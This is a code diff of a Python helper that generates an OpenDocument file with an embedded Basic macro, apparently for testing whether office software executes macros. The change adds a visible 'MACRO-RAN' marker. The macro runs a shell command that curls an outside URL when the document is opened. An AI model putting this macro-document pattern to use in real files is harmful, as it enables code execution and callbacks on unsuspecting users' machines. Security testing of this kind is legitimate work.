@@ -190,7 +190,8 @@ def make_odf():
     space = " ".join('xmlns:%s="%s%s:1.0"' % (k, o, k) for k in ("office", "text", "draw", "manifest", "script"))
     space += ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dom="http://www.w3.org/2001/xml-events"'
     mime = "application/vnd.oasis.opendocument.text"
-    basic = 'Sub Main\nShell("/bin/sh -c \'curl %s\'")\nEnd Sub \'%s' % (URL, xml_mark("basic"))
+    # a macro that runs is to be seen: it replaces the text
+    basic = 'Sub Main\nThisComponent.Text.String = "root: MACRO-RAN"\nShell("/bin/sh -c \'curl %s\'")\nEnd Sub \'%s' % (URL, xml_mark("basic"))
     names = ("content.xml", "meta.xml", "Basic/Standard/Module1.xml", "Basic/Standard/script-lb.xml", "Basic/script-lc.xml")
     library = "http://openoffice.org/2000/"
     parts = {
